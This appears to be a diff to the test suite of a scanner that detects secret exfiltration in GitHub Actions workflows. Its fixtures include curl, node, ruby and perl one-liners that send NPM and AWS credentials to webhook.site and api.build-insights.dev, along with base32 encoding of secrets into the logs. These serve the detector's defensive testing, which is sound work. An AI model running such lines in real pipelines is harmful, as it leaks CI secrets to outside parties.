@@ -214,6 +214,9 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(api.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
     const version = found(action('curl -s -d "v=${{ inputs.version }}" https://webhook.site/3f2a'), 'action.yml');
     expect(version.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([]);
+    // The credential names are the code rules' (CREDENTIAL_NAME, sink-rules.ts): an access key is one too.
+    const accessKey = found(action('curl -s -d "k=${{ inputs.aws-access-key }}" https://webhook.site/3f2a'), 'action.yml');
+    expect(accessKey.filter(([id]) => id === 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 10]]);
     const dispatch = `on:\n  workflow_dispatch:\n    inputs:\n      token:\n        type: string\n${job('      - run: curl -s -d "t=${{ inputs.token }}" https://webhook.site/3f2a\n')}`;
     expect(only(dispatch, 'gha-secrets-exfiltration')).toEqual([]);
   });
@@ -326,6 +329,20 @@ describe('gha-secrets-exfiltration', () => {
     expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:15', 'high:18', 'high:21']);
   });
 
+  it("reads an inline script's variable by every name-read the code rules know (ENV_VARIABLE_READ: process.env['T'], ENV.fetch, os.Getenv…) and Perl's $ENV{T}", () => {
+    const sent = `on: push\n${job(`      - run: node -e "fetch('https://api.build-insights.dev/x',{method:'POST',body:process.env['T']})"
+        env:
+          T: \${{ secrets.NPM_TOKEN }}
+      - run: ruby -e "require 'net/http'; Net::HTTP.post(URI('https://api.build-insights.dev/x'), ENV.fetch('T'))"
+        env:
+          T: \${{ secrets.NPM_TOKEN }}
+      - run: perl -MHTTP::Tiny -e 'HTTP::Tiny->new->post_form("https://api.build-insights.dev/x", { k => $ENV{T} })'
+        env:
+          T: \${{ secrets.NPM_TOKEN }}
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:12']);
+  });
+
   it("an inline script that sends a secret as its own service's header, auth or login, or waits on a local port, is not reported", () => {
     const own = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen(urllib.request.Request('https://registry.npmjs.org/-/whoami', headers={'Authorization': 'Bearer ' + os.environ['NPM_TOKEN']}))"
         env:
@@ -363,10 +380,14 @@ describe('gha-secrets-exfiltration', () => {
       - run: printf '%s' "$ALL" | xxd -p
         env:
           ALL: \${{ toJSON(secrets) }}
+      - run: echo "\${{ secrets.PYPI_TOKEN }}" | base32 -w0
+      - run: echo "\${{ secrets.PYPI_TOKEN }}" | base32 -d > key.bin
 `)}`;
+    // base32 as base64; with -d it decodes (a key file), which is not printing.
     expect(only(printed, 'gha-secrets-exfiltration')).toEqual([
       ['gha-secrets-exfiltration', 'critical', 6],
       ['gha-secrets-exfiltration', 'critical', 7],
+      ['gha-secrets-exfiltration', 'critical', 10],
     ]);
   });
 
